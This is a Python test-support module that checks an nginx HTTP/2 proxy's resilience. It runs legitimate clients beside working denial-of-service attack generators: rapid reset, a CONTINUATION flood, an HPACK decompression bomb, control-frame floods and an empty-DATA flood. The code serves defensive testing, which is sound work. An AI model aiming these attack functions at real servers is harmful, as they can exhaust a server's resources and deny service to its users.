"""What the HTTP/2 attack tests share (test_attacks_h2.py, test_h2_flood.py, and
bench/h2_attacks.py for the figures): legitimate clients run in a thread beside an attack, the
outcome of one attacking connection, and the attacks themselves, each a function of the port
that opens its own connection, attacks until the proxy refuses or closes it, and returns what it
saw (an Outcome).

Nothing here sleeps to synchronise: reads have deadlines.
"""
import threading
import time

import hpack

from h2util import (ContinuationFrame, DataFrame, ErrorCodes, H2Client, H2Closed, HeadersFrame,
                    PingFrame, RawH2, RstStreamFrame, SettingsFrame, WindowUpdateFrame)
from harness import request, until
from hyperframe.frame import PriorityFrame


class Legit:
    """Legitimate clients in a thread until stopped: ten HTTP/2 requests per connection, then
    one HTTP/1.1 request, over and over, each for PATH and expecting 200 with BODY; every
    failure recorded, and the time each success completed (for throughput figures)."""

    def __init__(self, port, path="/small", body=b"hello from nginx\n", http1=True):
        self.port = port
        self.path = path
        self.body = body
        self.http1 = http1
        self.done_at = []  # time.monotonic() of each success
        self.failures = []
        self.stop_event = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)

    @property
    def ok(self):
        return len(self.done_at)

    def __enter__(self):
        self.thread.start()
        until(lambda: self.ok >= 3 or self.failures, what="legitimate traffic to start")
        return self

    def __exit__(self, *exc):
        self.stop_event.set()
        self.thread.join(30)

    def rate(self, start, end):
        """Successes per second between START and END (time.monotonic())."""
        return sum(start <= t < end for t in self.done_at) / max(end - start, 1e-9)

    def _check(self, kind, status, body):
        if status == 200 and body == self.body:
            self.done_at.append(time.monotonic())
        else:
            self.failures.append(f"{kind}: {status} {body[:100]!r}")

    def _run(self):
        sep = "&" if "?" in self.path else "?"
        i = 0
        while not self.stop_event.is_set() and len(self.failures) < 20:
            try:
                with H2Client(self.port, timeout=10) as c:
                    for _ in range(10):
                        i += 1
                        r = c.get(f"{self.path}{sep}legit={i}")
                        self._check("h2", r.status, r.body)
                        if self.stop_event.is_set():
                            break
                if self.http1:
                    r = request(self.port, "GET", f"{self.path}{sep}legit={i}", timeout=10)
                    self._check("h1", r.status, r.body)
            except Exception as e:  # noqa: BLE001 - every failure is a finding here
                self.failures.append(repr(e))


class Outcome:
    """What one attacking connection saw: frames sent; the GOAWAY's error code; whether the
    proxy closed the connection; for a stream attack, the RST_STREAM code or the status its
    stream got, and the status of a request sent after it on the same connection; and how long
    the proxy took from the attack's first frame to that verdict (close, reset or answer)."""

    def __init__(self, raw, sent, started, stream=None, after=None):
        self.sent = sent
        goaway = raw.goaway
        self.goaway = goaway.error_code if goaway is not None else None
        self.closed = raw.closed
        s = raw.streams.get(stream) if stream is not None else None
        self.reset = s.reset if s is not None else None
        self.status = s.status if s is not None else None
        self.after = after
        self.seconds = time.monotonic() - started

    def __repr__(self):
        return (f"<Outcome sent={self.sent} goaway={self.goaway} closed={self.closed} "
                f"reset={self.reset} status={self.status} after={self.after} "
                f"seconds={self.seconds:.3f}>")


def keep_sending(raw, batches, limit=None, started=None):
    """Sends each batch of frames from BATCHES (an iterator) until the proxy closes the
    connection or LIMIT batches have gone; then waits for the close. Returns the Outcome."""
    started = started or time.monotonic()
    sent = 0
    for batch in batches:
        if not raw.send(*batch):
            break
        sent += len(batch)
        if not raw.is_open_now():
            break
        if limit is not None and sent >= limit:
            break
    raw.wait_closed(10)
    return Outcome(raw, sent, started)


def connection_attack(batches_of, handshake=False, **raw_args):
    """An attack of one connection: BATCHES_OF(raw) yields lists of frames, sent until the
    proxy closes the connection."""
    def attack(port):
        with RawH2(port, **raw_args) as raw:
            if handshake:
                raw.handshake()
            return keep_sending(raw, batches_of(raw), started=time.monotonic())
    return attack


def stream_attack(frames_of, handshake=True, sid=1, timeout=10):
    """An attack on one stream: FRAMES_OF(raw) is sent at once; then the proxy must reset the
    stream, answer it, or close the connection. If the connection lives, a GET on the next
    stream tells whether it still serves (Outcome.after)."""
    def attack(port):
        with RawH2(port) as raw:
            if handshake:
                raw.handshake()
            started = time.monotonic()
            raw.send(*frames_of(raw))
            try:
                raw.wait(lambda: sid in raw.streams and (raw.streams[sid].reset is not None
                                                         or raw.streams[sid].ended),
                         timeout, f"stream {sid} to be reset or answered")
            except H2Closed:
                pass
            outcome = Outcome(raw, 1, started, sid)
            if not raw.closed and raw.goaway is None:
                nxt = sid + 2
                raw.send(raw.headers_frame(nxt, path="/status?code=200&after=1"))
                try:
                    raw.wait(lambda: nxt in raw.streams and raw.streams[nxt].ended, timeout,
                             f"stream {nxt}")
                    outcome.after = raw.streams[nxt].status
                except H2Closed:
                    outcome.after = "closed"
            return outcome
    return attack


# --- floods ------------------------------------------------------------------------------


def rapid_reset(path="/small", count=20_000, per_batch=100):
    """HEADERS then RST_STREAM(CANCEL) at once, stream after stream, PER_BATCH streams to a
    write (1: each stream its own write, so the proxy may have started it before its reset
    arrives)."""
    def batches(raw):
        sid = 1
        while sid < 2 * count:
            batch = []
            for _ in range(per_batch):
                batch += [raw.headers_frame(sid, path=path),
                          RstStreamFrame(sid, error_code=ErrorCodes.CANCEL)]
                sid += 2
            yield batch
    return connection_attack(batches)


def continuation_flood(path="/small", count=100_000):
    """One HEADERS without END_HEADERS, then CONTINUATION frames that never end the block."""
    def batches(raw):
        yield [raw.headers_frame(1, path=path, end_stream=True, end_headers=False)]
        n = 0
        while n < count:
            batch = []
            for _ in range(20):
                f = ContinuationFrame(1)
                f.data = raw.block([(f"x-c{n}", "v")])
                batch.append(f)
                n += 1
            yield batch
    return connection_attack(batches, handshake=True)


def hpack_bomb(path="/small", seed_path=None, streams=50):
    """A 4 KB header put in the dynamic table, then referenced 16,000 times in one 16 KB header
    block (64 MB once decoded), stream after stream."""
    def batches(raw):
        table = raw.server_settings.get(SettingsFrame.HEADER_TABLE_SIZE, 4096)
        assert table >= 200, f"the proxy allows a dynamic table of {table} bytes: no HPACK bomb"
        raw.encoder.header_table_size = table
        # Stream 1 is an ordinary request that leaves x-bomb as the newest table entry (62),
        # as large as the table allows.
        seed = [hpack.NeverIndexedHeaderTuple(n, v)
                for n, v in raw.request_headers(seed_path or path)]
        h = HeadersFrame(1, flags=["END_HEADERS", "END_STREAM"])
        h.data = raw.block(seed + [("x-bomb", "A" * min(4000, table - 64))])
        yield [h]
        pseudo = [hpack.NeverIndexedHeaderTuple(n, v) for n, v in raw.request_headers(path)]
        for sid in range(3, 3 + 2 * streams, 2):
            f = HeadersFrame(sid, flags=["END_HEADERS", "END_STREAM"])
            f.data = raw.block(pseudo) + b"\xbe" * 16_000
            yield [f]
    return connection_attack(batches, handshake=True)


def control_flood(kind, count=100_000):
    """PING, SETTINGS or PRIORITY frames, as fast as they go."""
    def frame(i):
        if kind == "ping":
            return PingFrame(0, opaque_data=i.to_bytes(8, "big"))
        if kind == "settings":
            return SettingsFrame(0)
        return PriorityFrame(1 + 2 * (i % 1000), depends_on=0, stream_weight=16)

    def batches(raw):
        for start in range(0, count, 100):
            yield [frame(i) for i in range(start, start + 100)]
    return connection_attack(batches)


def empty_data_flood(path="/uploads/flood", method="PUT", count=100_000):
    """A request whose body is DATA frames with nothing in them, without END_STREAM (the
    origin reads the whole body before it answers: the stream stays open)."""
    def batches(raw):
        yield [raw.headers_frame(1, raw.request_headers(path, method), end_stream=False)]
        for _ in range(0, count, 50):
            yield [DataFrame(1, data=b"") for _ in range(50)]
    return connection_attack(batches)


__all__ = ["Legit", "Outcome", "keep_sending", "connection_attack", "stream_attack",
           "rapid_reset", "continuation_flood", "hpack_bomb", "control_flood",
           "empty_data_flood", "WindowUpdateFrame"]
